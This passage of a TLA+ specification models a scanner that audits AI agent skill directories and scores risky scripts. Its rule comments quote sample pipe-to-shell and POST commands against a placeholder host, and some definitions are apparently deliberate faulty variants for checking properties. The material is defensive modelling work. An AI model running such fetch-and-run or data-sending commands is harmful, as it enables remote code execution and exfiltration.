    /\ UNCHANGED <<scoreVars, manifestVars, snippetVars, mainVars>>

MarketNext ==
    \/ LookUp
    \/ FetchAndCheck
    \/ Pull
    \/ Reinstall
    \/ ReturnUpdated

SpecMarket == MarketInit /\ [][MarketNext]_vars

----------------------------------------------------------------------------
(* Scanner, scanner.py *)

SKIP_DIRS == {".git", "node_modules", "__pycache__", ".venv", "venv",
              "dist", "build", ".cache", ".pytest_cache", "coverage"}

SCRIPT_EXTENSIONS == {".py", ".sh", ".bash", ".zsh", ".js", ".ts",
                      ".rb", ".pl", ".ps1", ".cmd", ".bat"}

MAX_FILE_SIZE == 2 * 1024 * 1024

\* str.lower, on the suffixes written with capitals
lower(suffix) ==
    CASE suffix = ".PS1" -> ".ps1"
      [] OTHER           -> suffix

\* A file below a skill directory, as the scanner and the pattern engine see
\* it: dirs are the directory names between the skill root and the file,
\* suffix is the suffix of the file name as it is written,
\* shebang whether the first line starts with #!, nul whether the first
\* 8192 bytes hold a NUL byte, lines[n] the bag of the rules matching line n
\* of the text once decoded, and io what the system calls on it do:
\*   "ok"          all succeed and the bytes are UTF-8
\*   "stat_fails"  stat() raises (a dangling link)
\*   "open_fails"  stat() succeeds, open() raises
\*   "read_fails"  stat() and the probe succeed, the later read_text raises
\*   "bad_utf8"    all succeed, some bytes are not UTF-8
File(path, dirs, ends_md, suffix, shebang, size, nul, io, lines) ==
    [path |-> path, dirs |-> dirs, ends_md |-> ends_md,
     suffix |-> suffix, shebang |-> shebang, size |-> size,
     nul |-> nul, io |-> io, lines |-> lines]

\* is_binary_file
is_binary_file(f) == f.io = "open_fails" \/ f.nul

\* has_shebang
has_shebang(f) == f.io # "open_fails" /\ f.shebang

\* The suffix compared as it is written.
ScannedFile_NoLower(f) ==
    [relative_path |-> f.path,
     ends_md       |-> f.ends_md,
     extension     |-> f.suffix,
     size          |-> f.size,
     is_script     |-> f.suffix \in SCRIPT_EXTENSIONS \/ has_shebang(f),
     has_shebang   |-> f.suffix \notin SCRIPT_EXTENSIONS /\ has_shebang(f),
     io            |-> f.io,
     lines         |-> f.lines]

\* scan_skill_directory, lines 110-131; io and lines are the file the path
\* of the ScannedFile leads to
ScannedFile(f) ==
    [relative_path |-> f.path,
     ends_md       |-> f.ends_md,
     extension     |-> lower(f.suffix),
     size          |-> f.size,
     is_script     |-> lower(f.suffix) \in SCRIPT_EXTENSIONS \/ has_shebang(f),
     has_shebang   |-> lower(f.suffix) \notin SCRIPT_EXTENSIONS /\ has_shebang(f),
     io            |-> f.io,
     lines         |-> f.lines]

\* A file of exactly MAX_FILE_SIZE bytes skipped too.
Walked_StrictSize(f) ==
    /\ \A i \in 1..Len(f.dirs) : f.dirs[i] \notin SKIP_DIRS
    /\ f.io # "stat_fails"
    /\ f.size < MAX_FILE_SIZE
    /\ ~is_binary_file(f)

\* scan_skill_directory, lines 89-108: the files the walk keeps
Walked(f) ==
    /\ \A i \in 1..Len(f.dirs) : f.dirs[i] \notin SKIP_DIRS
    /\ f.io # "stat_fails"
    /\ f.size <= MAX_FILE_SIZE
    /\ ~is_binary_file(f)

RECURSIVE MapScanned(_)
MapScanned(fs) ==
    IF fs = <<>> THEN <<>> ELSE <<ScannedFile(Head(fs))>> \o MapScanned(Tail(fs))

\* find_skill_md: whether one of the three names exists below the entry
find_skill_md(entry) == entry.skill_md # "none"

\* scan_skill_directory; manifest is the file skill_md_path leads to
scan_skill_directory(entry) ==
    [name          |-> entry.name,
     skill_md_path |-> find_skill_md(entry),
     manifest      |-> entry.manifest,
     files         |-> MapScanned(SelectSeq(entry.files, Walked))]

\* scan_skills_root, lines 144-153: the entries taken as skills
IsSkillDir(entry) ==
    /\ entry.is_dir
    /\ ~entry.hidden
    /\ \/ find_skill_md(entry)
       \/ entry.scripts # "none"
       \/ entry.main_py # "none"

RECURSIVE MapSkills(_)
MapSkills(es) ==
    IF es = <<>> THEN <<>>
    ELSE <<scan_skill_directory(Head(es))>> \o MapSkills(Tail(es))

\* scan_skills_root, for a root that exists
scan_skills_root(entries) == MapSkills(SelectSeq(entries, IsSkillDir))

----------------------------------------------------------------------------
(* The entries a skills root may hold *)

\* The file a manifest path leads to: io is "ok", "unreadable" (read_text
\* raises OSError, as on a directory) or "bad_utf8" (it raises
\* UnicodeDecodeError)
ManifestFile(io, text) == [io |-> io, content |-> text]
NoFile == ManifestFile("none", <<>>)

\* Text lines, by the rules whose pattern matches them
PROSE     == EmptyBag                       \* Some notes about usage.
PIPE_SH   == SetToBag({"CURL_PIPE_SH"})     \* curl https://x.example/setup | sh
SUDO_LINE == SetToBag({"SUDO"})             \* sudo apt-get update
SUDO_TWICE == ("SUDO" :> 2)                 \* sudo apt update && sudo apt upgrade
POST      == SetToBag({"CURL_POST"})        \* curl -X POST https://x.example/hook
URLLIB    == SetToBag({"PY_URLLIB"})        \* urllib.request.urlopen(url, data=payload)
POST_PIPE == SetToBag({"CURL_PIPE_SH", "CURL_POST"})
                                            \* curl -X POST https://x.example/run | sh

Script(path, dirs, lines) ==
    File(path, dirs, FALSE, ".sh", FALSE, 200, FALSE, "ok", lines)
Markdown(path, lines) ==
    File(path, <<>>, TRUE, ".md", FALSE, 200, FALSE, "ok", lines)
\* A script the system call named by io fails on
Failing(path, io, lines) ==
    File(path, <<"scripts">>, FALSE, ".sh", FALSE, 200, FALSE, io, lines)

\* An entry of the root: skill_md, scripts and main_py say what, if
\* anything, exists below it under one of the manifest names, under
\* "scripts" and under "__main__.py": "none", "file" or "dir"
Entry(name, is_dir, hidden, skill_md, scripts, main_py, manifest, files) ==
    [name |-> name, is_dir |-> is_dir, hidden |-> hidden,
     skill_md |-> skill_md, scripts |-> scripts, main_py |-> main_py,
     manifest |-> manifest, files |-> files]

\* allowed-tools: Read, Write
ReadWrite ==
    ManifestFile("ok", <<"Usage", " ", "demo", "\n",
                         Key, ":", " ", "Read", ",", " ", "Write", "\n">>)
\* A manifest that declares nothing
Undeclared == ManifestFile("ok", <<"Usage", " ", "demo", "\n">>)
\* allowed-tools: Read, Write in a file that is not UTF-8
Latin1 ==
    ManifestFile("bad_utf8", <<Key, ":", " ", "Read", ",", " ", "Write", "\n">>)

\* What a skills root may hold: three entries that are no skills by any
\* reading, one that has a plain file named scripts, and eight skills, one
\* for each risk level and more.
RootEntries ==
    { \* a plain file
      Entry("notes.txt", FALSE, FALSE, "none", "none", "none", NoFile, <<>>),
      \* a hidden directory, with a manifest
      Entry(".backup", TRUE, TRUE, "file", "none", "none", ReadWrite,
            << Markdown("SKILL.md", <<PROSE>>) >>),
      \* a directory with no manifest, no scripts and no __main__.py
      Entry("assets", TRUE, FALSE, "none", "none", "none", NoFile,
            << Script("lib/helper.sh", <<"lib">>, <<SUDO_LINE>>) >>),
      \* a directory whose only marker is a plain file named scripts
      Entry("tools", TRUE, FALSE, "none", "file", "none", NoFile,
            << File("scripts", <<>>, FALSE, "", FALSE, 200, FALSE, "ok",
                    <<PROSE>>) >>),
      \* manifest and prose only, one file with its suffix in capitals
      Entry("benign", TRUE, FALSE, "file", "none", "none", ReadWrite,
            << Markdown("SKILL.md", <<PROSE>>),
               Markdown("notes.md", <<PROSE, PROSE>>),
               File("Setup.PS1", <<>>, FALSE, ".PS1", FALSE, 200, FALSE, "ok",
                    <<PROSE>>) >>),
      \* one hard trigger in a script, beside a binary file, a file in a
      \* directory the walk skips, a file of just the greatest size and a
      \* file one byte greater
      Entry("installer", TRUE, FALSE, "none", "dir", "none", NoFile,
            << File("logo.png", <<>>, FALSE, ".png", FALSE, 900, TRUE, "ok",
                    <<PIPE_SH>>),
               File("data.csv", <<>>, FALSE, ".csv", FALSE, MAX_FILE_SIZE,
                    FALSE, "ok", <<PROSE>>),
               File("dump.sql", <<>>, FALSE, ".sql", FALSE, MAX_FILE_SIZE + 1,
                    FALSE, "ok", <<SUDO_LINE>>),
               Script("scripts/install.sh", <<"scripts">>, <<PROSE, PIPE_SH>>),
               Script("scripts/node_modules/x.js", <<"scripts", "node_modules">>,
                      <<SUDO_LINE>>) >>),
      \* six matches of one rule of weight 60 in a script, beside three
      \* scripts a system call fails on
      Entry("sudoer", TRUE, FALSE, "none", "dir", "none", NoFile,
            << Failing("scripts/gone.sh", "stat_fails", <<PIPE_SH>>),
               Failing("scripts/locked.sh", "open_fails", <<PIPE_SH>>),
               Script("scripts/setup.sh", <<"scripts">>,
                      <<SUDO_LINE, SUDO_LINE, SUDO_LINE, PROSE, SUDO_LINE,
                        SUDO_LINE, SUDO_LINE>>),
               Failing("scripts/flaky.sh", "read_fails", <<PIPE_SH>>) >>),
      \* a weight-40 rule in a markdown file only
      Entry("docs", TRUE, FALSE, "file", "none", "none", Undeclared,
            << Markdown("SKILL.md", <<PROSE, POST>>) >>),
      \* the same rule in a script
      Entry("poster", TRUE, FALSE, "none", "dir", "none", NoFile,
            << Script("scripts/post.sh", <<"scripts">>, <<POST>>) >>),
      \* a rule of weight 60 matching twice on one line
      Entry("admin", TRUE, FALSE, "file", "dir", "none", ReadWrite,
            << Markdown("SKILL.md", <<PROSE>>),
               Script("scripts/a.sh", <<"scripts">>, <<SUDO_TWICE>>) >>),
      \* two files; in the script a later catalog rule matches on line 1 and
      \* an earlier one on line 2
      Entry("mixed", TRUE, FALSE, "none", "dir", "none", NoFile,
            << Markdown("README.md", <<POST>>),
               Script("scripts/run.sh", <<"scripts">>, <<POST, POST_PIPE>>) >>),
      \* a script in which a later catalog rule matches on line 1 and an
      \* earlier one on line 2, both of severity medium
      Entry("fetcher", TRUE, FALSE, "none", "dir", "none", NoFile,
            << File("scripts/fetch.py", <<"scripts">>, FALSE, ".py", FALSE, 200,
                    FALSE, "ok", <<URLLIB, POST>>) >>),
      \* one directory with a markdown file and a script that one rule
      \* matches in both, listed by the walk in one order and in the other
      Entry("notify", TRUE, FALSE, "none", "dir", "none", NoFile,
            << File("scripts/guide.md", <<"scripts">>, TRUE, ".md", FALSE, 200,
                    FALSE, "ok", <<POST>>),
               Script("scripts/send.sh", <<"scripts">>, <<POST>>) >>),
      Entry("notify-copy", TRUE, FALSE, "none", "dir", "none", NoFile,
            << Script("scripts/send.sh", <<"scripts">>, <<POST>>),
               File("scripts/guide.md", <<"scripts">>, TRUE, ".md", FALSE, 200,
                    FALSE, "ok", <<POST>>) >>),
      \* files that are not UTF-8: the manifest and a script with a hard
      \* trigger; a markdown file with a shebang and a file that is
      \* neither markdown nor a script; five findings in all
      Entry("legacy", TRUE, FALSE, "file", "none", "file", Latin1,
            << File("SKILL.md", <<>>, TRUE, ".md", FALSE, 200, FALSE,
                    "bad_utf8", <<PROSE>>),
               File("__main__.py", <<>>, FALSE, ".py", FALSE, 200, FALSE,
                    "bad_utf8", <<PROSE, PIPE_SH>>),
               File("run.md", <<>>, TRUE, ".md", TRUE, 200, FALSE, "ok",
                    <<PROSE, POST>>),
               File("hooks.cfg", <<>>, FALSE, ".cfg", FALSE, 200, FALSE, "ok",
                    <<SUDO_LINE, SUDO_LINE, SUDO_LINE>>) >>) }

----------------------------------------------------------------------------
(* Pattern engine and audit, scoring.py *)

\* k times x
Copies(x, k) == [i \in 1..k |-> x]

RECURSIVE RuleFindings_FindAll(_, _, _)
\* A finding for every match on a line.
RuleFindings_FindAll(rule, sf, n) ==
    IF n = 0 THEN <<>>
    ELSE RuleFindings_FindAll(rule, sf, n - 1) \o
         Copies(Finding(rule, sf.relative_path, n, sf.ends_md, sf.is_script),
                CopiesIn(rule.id, sf.lines[n]))

RECURSIVE RuleFindings(_, _, _)
\* scan_content, lines 78-102: the findings of one rule in the first n
\* lines; rule.pattern.search(line) says whether the line has a match
RuleFindings(rule, sf, n) ==
    IF n = 0 THEN <<>>
    ELSE RuleFindings(rule, sf, n - 1) \o
         (IF BagIn(rule.id, sf.lines[n])
          THEN <<Finding(rule, sf.relative_path, n, sf.ends_md, sf.is_script)>>
          ELSE <<>>)

RECURSIVE ScanRules(_, _)
\* scan_content, lines 77-102: the findings of the first k catalog rules
ScanRules(sf, k) ==
    IF k = 0 THEN <<>>
    ELSE ScanRules(sf, k - 1) \o RuleFindings(get_all_patterns[k], sf, Len(sf.lines))

\* scan_content of each file below the entries a root may hold, kept as a
\* table
FileScans ==
    [sf \in UNION { {ScannedFile(e.files[k]) : k \in 1..Len(e.files)}
                    : e \in RootEntries } |-> ScanRules(sf, Len(get_all_patterns))]

\* scan_content
scan_content(sf) ==
    IF sf \in DOMAIN FileScans THEN FileScans[sf]
    ELSE ScanRules(sf, Len(get_all_patterns))

RECURSIVE AllFindings(_)
\* audit_skill, lines 171-183: read_text(errors='ignore') drops the bytes
\* that are not UTF-8 and raises only when the file cannot be read
AllFindings(files) ==
    IF files = <<>> THEN <<>>
    ELSE (IF Head(files).io = "read_fails" THEN <<>>
          ELSE scan_content(Head(files)))
         \o AllFindings(Tail(files))

\* parse_skill_md
parse_skill_md(file) ==
    IF file.io = "ok" THEN extract_allowed_tools(file.content)
    ELSE SkillMdInfo(<<>>, FALSE)

\* SkillAuditResult, lines 62-63: the fields of a result audit_skill gets no
\* skill_md_info for
NoManifest == SkillMdInfo(<<>>, FALSE)

\* SkillAuditResult, lines 56-68: the fields of an audit result; skill_path
\* is left out of the model
SkillAuditResultFields ==
    {"skill_name", "findings", "allowed_tools", "allowed_tools_parsed",
     "total_score", "risk_level", "has_hard_trigger", "file_count",
     "script_count"}

\* infer_required_permissions: the values it can put in its list; nothing
\* in the package calls it
Capabilities == {"network", "shell", "filesystem_write"}

\* audit_skill
audit_skill(skill_info, skill_md_info) ==
    LET all_findings == AllFindings(skill_info.files)
        scored       == calculate_score(all_findings)
    IN  [skill_name           |-> skill_info.name,
         file_count           |-> Len(skill_info.files),
         script_count         |-> Len(SelectSeq(skill_info.files,
                                        LAMBDA f : f.is_script)),
         allowed_tools        |-> skill_md_info.allowed_tools,
         allowed_tools_parsed |-> skill_md_info.parse_success,
         findings             |-> all_findings,
         total_score          |-> scored.total_score,
         risk_level           |-> scored.risk_level,
         has_hard_trigger     |-> scored.has_hard_trigger]

\* main, lines 136-147: the body of the loop over the skills
audit_one(skill_info) ==
    audit_skill(skill_info,
                IF skill_info.skill_md_path
                THEN parse_skill_md(skill_info.manifest) ELSE NoManifest)

----------------------------------------------------------------------------
(* Driver and reporters, __main__.py, reporters/ *)

\* filter_by_level, lines 95-96: level_order.index
LevelRank(level) == CHOOSE i \in 1..Len(RiskLevel) : RiskLevel[i] = level

\* Results exactly at the level dropped too.
filter_by_level_Strict(rs, min_level) ==
    SelectSeq(rs, LAMBDA r : LevelRank(r.risk_level) > LevelRank(min_level))

\* filter_by_level
filter_by_level(rs, min_level) ==
    SelectSeq(rs, LAMBDA r : LevelRank(r.risk_level) >= LevelRank(min_level))

RECURSIVE TotalFindings(_)
\* JSONReporter._generate_summary, lines 31-35
TotalFindings(rs) ==
    IF rs = <<>> THEN 0 ELSE Len(Head(rs).findings) + TotalFindings(Tail(rs))

\* JSONReporter._generate_summary
generate_summary(rs) ==
    [total_skills   |-> Len(rs),
     total_findings |-> TotalFindings(rs),
     by_risk_level  |->
        [l \in {RiskLevel[i] : i \in 1..Len(RiskLevel)} |->
            Len(SelectSeq(rs, LAMBDA r : r.risk_level = l))]]

\* The summary made of all results, the filtered-out ones too.
json_report_AllResults(rs) ==
    [kind |-> "json", summary |-> generate_summary(results), skills |-> rs]

\* JSONReporter.generate_report; the timestamp and the scan time are left out
json_report(rs) ==
    [kind |-> "json", summary |-> generate_summary(rs), skills |-> rs]

RECURSIVE SortedInsert(_, _)
\* sorted() is stable: r goes behind every result whose key is not greater
SortedInsert(sorted, r) ==
    IF sorted = <<>> THEN <<r>>
    ELSE LET h == Head(sorted)
             before == \/ LevelRank(r.risk_level) > LevelRank(h.risk_level)
                       \/ /\ LevelRank(r.risk_level) = LevelRank(h.risk_level)
                          /\ r.total_score > h.total_score
         IN  IF before THEN <<r>> \o sorted
             ELSE <<h>> \o SortedInsert(Tail(sorted), r)

\* The results left in the order they come in.
SortedResults_ScannerOrder(rs, n) == SubSeq(rs, 1, n)

RECURSIVE SortedResults(_, _)
\* TerminalReporter.generate_report, lines 87-93
SortedResults(rs, n) ==
    IF n = 0 THEN <<>> ELSE SortedInsert(SortedResults(rs, n - 1), rs[n])

SHOWN_FINDINGS == 5

RECURSIVE FindingLines(_, _)
\* TerminalReporter.generate_report, lines 114-124
FindingLines(shown, verbose) ==
    IF shown = <<>> THEN <<>>
    ELSE <<[line |-> "finding", rule_id |-> Head(shown).rule_id,
            file |-> Head(shown).file_path, at |-> Head(shown).line_number]>>
         \o (IF verbose THEN <<[line |-> "snippet"]>> ELSE <<>>)
         \o FindingLines(Tail(shown), verbose)

\* The summary line appended from five findings on.
SkillLines_SummaryFromFive(r, verbose) ==
    LET n     == Len(r.findings)
        shown == IF verbose THEN r.findings
                 ELSE SubSeq(r.findings, 1, Min(n, SHOWN_FINDINGS))
    IN  <<[line |-> "skill", name |-> r.skill_name, level |-> r.risk_level,
           score |-> r.total_score, hard_tag |-> r.has_hard_trigger]>>
        \o FindingLines(shown, verbose)
        \o (IF n >= SHOWN_FINDINGS /\ ~verbose
            THEN <<[line |-> "more", count |-> n - SHOWN_FINDINGS]>> ELSE <<>>)

\* TerminalReporter.generate_report, lines 97-129: the lines of one skill
SkillLines(r, verbose) ==
    LET n     == Len(r.findings)
        shown == IF verbose THEN r.findings
                 ELSE SubSeq(r.findings, 1, Min(n, SHOWN_FINDINGS))
    IN  <<[line |-> "skill", name |-> r.skill_name, level |-> r.risk_level,
           score |-> r.total_score, hard_tag |-> r.has_hard_trigger]>>
        \o FindingLines(shown, verbose)
        \o (IF n > SHOWN_FINDINGS /\ ~verbose
            THEN <<[line |-> "more", count |-> n - SHOWN_FINDINGS]>> ELSE <<>>)

RECURSIVE ReportLines(_, _)
ReportLines(sorted, verbose) ==
    IF sorted = <<>> THEN <<>>
    ELSE SkillLines(Head(sorted), verbose) \o ReportLines(Tail(sorted), verbose)

\* TerminalReporter.generate_report; colours and the banner are left out
terminal_report(rs, verbose) ==
    [kind      |-> "terminal",
     scanned   |-> Len(rs),
     findings  |-> TotalFindings(rs),
     dangerous |-> Len(SelectSeq(rs, LAMBDA r : r.risk_level = "dangerous")),
     high      |-> Len(SelectSeq(rs, LAMBDA r : r.risk_level = "high")),
     lines     |-> ReportLines(SortedResults(rs, Len(rs)), verbose)]

----------------------------------------------------------------------------
(* Spec: one run of main() over a skills root *)

\* The listings of a root: up to MaxEntries entries with different names, in
\* whatever order iterdir yields them
Trees ==
    UNION { {t \in [1..n -> RootEntries] :
                \A i, j \in 1..n : i # j => t[i].name # t[j].name}
            : n \in 0..MaxEntries }

\* --json, no --json, no --json with --verbose
Formats == {"json", "terminal", "verbose"}
\* no --output, --output to a path outside the root that can be written, to
\* a new path directly below the root, to a path that cannot be written
Outputs == {"none", "file", "in_root", "unwritable"}

Init ==
    /\ findings = <<>>
    /\ score = calculate_score(<<>>)
    /\ pc = "start"
    /\ root_exists \in BOOLEAN
    /\ tree \in (IF root_exists THEN Trees ELSE {<<>>})
    /\ args \in [min_level : {RiskLevel[i] : i \in 1..Len(RiskLevel)},
                 format : Formats, output : Outputs]
    /\ skills = <<>>
    /\ results = <<>>
    /\ filtered_results = <<>>
    /\ stdout = NoReport
    /\ outfile = NoReport
    /\ written = {}
    /\ stderr = <<>>
    /\ exit_code = 0
    /\ ManifestIdle
    /\ SnippetIdle
    /\ MarketIdle

\* A missing root reported but not fatal: the run goes on to the scan.
CheckRoot_NoExit ==
    /\ pc = "start"
    /\ pc' = "scan"
    /\ stderr' = Append(stderr, IF root_exists THEN "scanning"
                                ELSE "no such directory")
    /\ UNCHANGED <<scoreVars, manifestVars, snippetVars, marketVars>>
    /\ UNCHANGED <<root_exists, tree, args, skills, results, filtered_results,
                   stdout, outfile, written, exit_code>>

\* main, lines 106-121
CheckRoot ==
    /\ pc = "start"
    /\ IF root_exists
       THEN /\ pc' = "scan"
            /\ stderr' = Append(stderr, "scanning")
            /\ UNCHANGED exit_code
       ELSE /\ pc' = "done"
            /\ stderr' = Append(stderr, "no such directory")
            /\ exit_code' = 1
    /\ UNCHANGED <<scoreVars, manifestVars, snippetVars, marketVars>>
    /\ UNCHANGED <<root_exists, tree, args, skills, results, filtered_results,
                   stdout, outfile, written>>

\* main, lines 124-130
ScanRoot ==
    /\ pc = "scan"
    /\ skills' = scan_skills_root(tree)
    /\ IF skills' = <<>>
       THEN /\ pc' = "done"
            /\ stderr' = Append(stderr, "no skill found")
            /\ exit_code' = 0
       ELSE /\ pc' = "audit"
            /\ stderr' = Append(stderr, "found skills")
            /\ UNCHANGED exit_code
    /\ UNCHANGED <<scoreVars, manifestVars, snippetVars, marketVars>>
    /\ UNCHANGED <<root_exists, tree, args, results, filtered_results,
                   stdout, outfile, written>>

\* The findings list shared between the audits: a result holds the findings
\* of the skills before it too, and is scored on all of them.
AuditNext_FindingsCarried ==
    /\ pc = "audit"
    /\ LET own     == audit_one(skills[Len(results) + 1])
           carried == IF results = <<>> THEN <<>>
                      ELSE results[Len(results)].findings
           scored  == calculate_score(carried \o own.findings)
       IN  results' = Append(results,
               [own EXCEPT !.findings = carried \o own.findings,
                           !.total_score = scored.total_score,
                           !.risk_level = scored.risk_level,
                           !.has_hard_trigger = scored.has_hard_trigger])
    /\ pc' = IF Len(results') = Len(skills) THEN "filter" ELSE "audit"
    /\ UNCHANGED <<scoreVars, manifestVars, snippetVars, marketVars>>
    /\ UNCHANGED <<root_exists, tree, args, skills, filtered_results,
                   stdout, outfile, written, stderr, exit_code>>

\* main, lines 135-149: one turn of the loop
AuditNext ==
    /\ pc = "audit"
    /\ results' = Append(results, audit_one(skills[Len(results) + 1]))
    /\ pc' = IF Len(results') = Len(skills) THEN "filter" ELSE "audit"
    /\ UNCHANGED <<scoreVars, manifestVars, snippetVars, marketVars>>
    /\ UNCHANGED <<root_exists, tree, args, skills, filtered_results,
                   stdout, outfile, written, stderr, exit_code>>

\* main, line 152
FilterResults ==
    /\ pc = "filter"
    /\ filtered_results' = filter_by_level(results, args.min_level)
    /\ pc' = "report"
    /\ UNCHANGED <<scoreVars, manifestVars, snippetVars, marketVars>>
    /\ UNCHANGED <<root_exists, tree, args, skills, results,
                   stdout, outfile, written, stderr, exit_code>>

\* main, lines 155-175: the report main hands to print or to the file
BuildReport(rs, format) ==
    IF format = "json" THEN json_report(rs)
    ELSE terminal_report(rs, format = "verbose")

\* main, lines 157-159, 168-173: the path open(args.output, 'w') names
OutputPath(output) ==
    IF output = "in_root" THEN "<root>/report.out" ELSE "/tmp/report.out"

\* The root's listing once a run has created report.out directly below it
WithReportFile(entries) ==
    Append(entries, Entry("report.out", FALSE, FALSE, "none", "none", "none",
                          NoFile, <<>>))

\* The report saved to a default path when no --output is given.
EmitReport_AlwaysSaves ==
    /\ pc = "report"
    /\ \/ /\ args.output = "none"
          /\ stdout' = BuildReport(filtered_results, args.format)
          /\ pc' = "exit"
          /\ written' = written \cup {OutputPath("file")}
          /\ UNCHANGED <<tree, outfile, stderr, exit_code>>
       \/ /\ args.output \in {"file", "in_root"}
          /\ outfile' = BuildReport(filtered_results, args.format)
          /\ written' = written \cup {OutputPath(args.output)}
          /\ tree' = IF args.output = "in_root" THEN WithReportFile(tree)
                     ELSE tree
          /\ stderr' = Append(stderr, "report saved")
          /\ pc' = "exit"
          /\ UNCHANGED <<stdout, exit_code>>
       \/ /\ args.output = "unwritable"
          /\ stderr' = Append(stderr, "traceback")
          /\ exit_code' = 1
          /\ pc' = "done"
          /\ UNCHANGED <<tree, stdout, outfile, written>>
    /\ UNCHANGED <<scoreVars, manifestVars, snippetVars, marketVars>>
    /\ UNCHANGED <<root_exists, args, skills, results, filtered_results>>

\* main, lines 155-175; open() raising on a path that cannot be written is
\* not caught, and the interpreter then ends the process with status 1
EmitReport ==
    /\ pc = "report"
    /\ \/ /\ args.output = "none"
          /\ stdout' = BuildReport(filtered_results, args.format)
          /\ pc' = "exit"
          /\ UNCHANGED <<tree, outfile, written, stderr, exit_code>>
       \/ /\ args.output \in {"file", "in_root"}
          /\ outfile' = BuildReport(filtered_results, args.format)
          /\ written' = written \cup {OutputPath(args.output)}
          /\ tree' = IF args.output = "in_root" THEN WithReportFile(tree)
                     ELSE tree
          /\ stderr' = Append(stderr, "report saved")
          /\ pc' = "exit"
          /\ UNCHANGED <<stdout, exit_code>>
       \/ /\ args.output = "unwritable"
          /\ stderr' = Append(stderr, "traceback")
          /\ exit_code' = 1
          /\ pc' = "done"
          /\ UNCHANGED <<tree, stdout, outfile, written>>
    /\ UNCHANGED <<scoreVars, manifestVars, snippetVars, marketVars>>
    /\ UNCHANGED <<root_exists, args, skills, results, filtered_results>>

\* Only results with a hard trigger counted.
dangerous_count_HardOnly(rs) ==
    Len(SelectSeq(rs, LAMBDA r : r.has_hard_trigger))

\* main, line 178
dangerous_count(rs) ==
    Len(SelectSeq(rs, LAMBDA r : r.risk_level = "dangerous"))

\* main, lines 178-180, and the return from main
Exit ==
    /\ pc = "exit"
    /\ exit_code' = IF dangerous_count(results) > 0 THEN 1 ELSE 0
    /\ pc' = "done"
    /\ UNCHANGED <<scoreVars, manifestVars, snippetVars, marketVars>>
    /\ UNCHANGED <<root_exists, tree, args, skills, results, filtered_results,
                   stdout, outfile, written, stderr>>

Next ==
    \/ CheckRoot
    \/ ScanRoot
    \/ AuditNext
    \/ FilterResults
    \/ EmitReport
    \/ Exit

Spec == Init /\ [][Next]_vars

----------------------------------------------------------------------------
(* Properties of the scoring engine, checked under SpecScore *)

\* C1: adding a finding at any position of a findings list never decreases
\* total_score and never lowers risk_level.
C1_AddingNeverLowers ==
    [][/\ score'.total_score >= score.total_score
       /\ LevelRank(score'.risk_level) >= LevelRank(score.risk_level)]_vars

\* C2: total_score = 0 iff findings is empty iff risk_level is safe.
C2_ZeroIffEmptyIffSafe ==
    /\ (score.total_score = 0) <=> (findings = <<>>)
    /\ (findings = <<>>) <=> (score.risk_level = "safe")

\* A list made only of markdown-halved findings of the lightest rule, the
\* later ones decayed: 17 + 8 + 8.
C2_Witness ==
    /\ Len(findings) = 3
    /\ \A i \in 1..3 : findings[i].rule_id = "PY_URLLIB" /\ findings[i].weight = 17
    /\ score.total_score = 33

\* C3: a hard-trigger finding anywhere in the list makes has_hard_trigger
\* true, risk_level dangerous and total_score at least 75.
C3_HardTriggerDominates ==
    (\E i \in 1..Len(findings) : findings[i].hard_trigger)
        => /\ score.has_hard_trigger
           /\ score.risk_level = "dangerous"
           /\ score.total_score >= 75

\* One hard-trigger finding in a markdown file (weight 42 < 75), next to a
\* finding that is not a hard trigger.
C3_Witness ==
    /\ Len(findings) = 2
    /\ findings[1].rule_id = "CURL_POST" /\ findings[1].weight = 20
    /\ findings[2].rule_id = "BASE64_EXEC" /\ findings[2].weight = 42
    /\ score.total_score = 75

\* C4: total_score is an integer between 0 and 100.
C4_ScoreInRange == score.total_score \in 0..100

\* Three full-weight findings of different rules: 100 + 90 + 95 before the
\* ceiling.
C4_Witness ==
    /\ Len(findings) = 3
    /\ DecayedSum(findings, 3) = 285
    /\ score.total_score = 100

\* The level the thresholds table gives a (total_score, has_hard_trigger) pair
TableLevels(total, hard) ==
    {l \in {"safe", "low", "medium", "high", "dangerous"} :
        \/ l = "dangerous" /\ (hard \/ total >= 75)
        \/ l = "high"      /\ ~hard /\ total \in 50..74
        \/ l = "medium"    /\ ~hard /\ total \in 25..49
        \/ l = "low"       /\ ~hard /\ total \in 1..24
        \/ l = "safe"      /\ ~hard /\ total = 0}

\* C6: risk_level is the one level the table gives (total_score,
\* has_hard_trigger): dangerous on a hard trigger or 75 and more, high for
\* 50..74, medium for 25..49, low for 1..24, safe for 0.
C6_LevelByTable ==
    TableLevels(score.total_score, score.has_hard_trigger) = {score.risk_level}

\* A score exactly on the dangerous threshold without a hard trigger
\* (55 + 20), so the threshold itself decides.
C6_Witness ==
    /\ score.total_score = 75
    /\ ~score.has_hard_trigger
    /\ score.risk_level = "dangerous"

\* Positions of the findings of one rule
PositionsOf(fs, id) == {i \in 1..Len(fs) : fs[i].rule_id = id}

RECURSIVE HalvedSum(_, _)
\* Sum of floor(weight / 2) over the positions in P
HalvedSum(fs, P) ==
    IF P = {} THEN 0
    ELSE LET i == CHOOSE j \in P : TRUE
         IN  (fs[i].weight \div 2) + HalvedSum(fs, P \ {i})

\* What one rule's findings add: the first whole, the later ones halved
RuleShare(fs, id) ==
    LET P     == PositionsOf(fs, id)
        first == CHOOSE i \in P : \A j \in P : i <= j
    IN  fs[first].weight + HalvedSum(fs, P \ {first})

RECURSIVE SharesSum(_, _)
\* Sum of RuleShare over the rule ids in R
SharesSum(fs, R) ==
    IF R = {} THEN 0
    ELSE LET id == CHOOSE r \in R : TRUE
         IN  RuleShare(fs, id) + SharesSum(fs, R \ {id})

\* C7: for a non-empty list total_score = min(100, max(F, S)), S the sum of
\* the whole weight of each rule's first finding and half the weight
\* (rounded down) of its later ones, F = 75 on a hard trigger and 0
\* otherwise; so k findings of one rule of weight w give
\* min(100, max(F, w + (k-1) * floor(w/2))), three findings of weight 60
\* give 100 and a single hard-trigger finding of weight 90 gives 90.
C7_ScoreFormula ==
    findings # <<>> =>
        LET n == Len(findings)
            S == SharesSum(findings, {findings[i].rule_id : i \in 1..n})
            F == IF \E i \in 1..n : findings[i].hard_trigger THEN 75 ELSE 0
            w == findings[1].weight
        IN  /\ score.total_score = Min(100, Max(F, S))
            /\ (\A i \in 1..n : /\ findings[i].rule_id = findings[1].rule_id
                                /\ findings[i].weight = w)
                  => /\ score.total_score = Min(100, Max(F, w + (n - 1) * (w \div 2)))
                     /\ (n = 3 /\ w = 60) => score.total_score = 100
                     /\ (n = 1 /\ w = 90 /\ findings[1].hard_trigger)
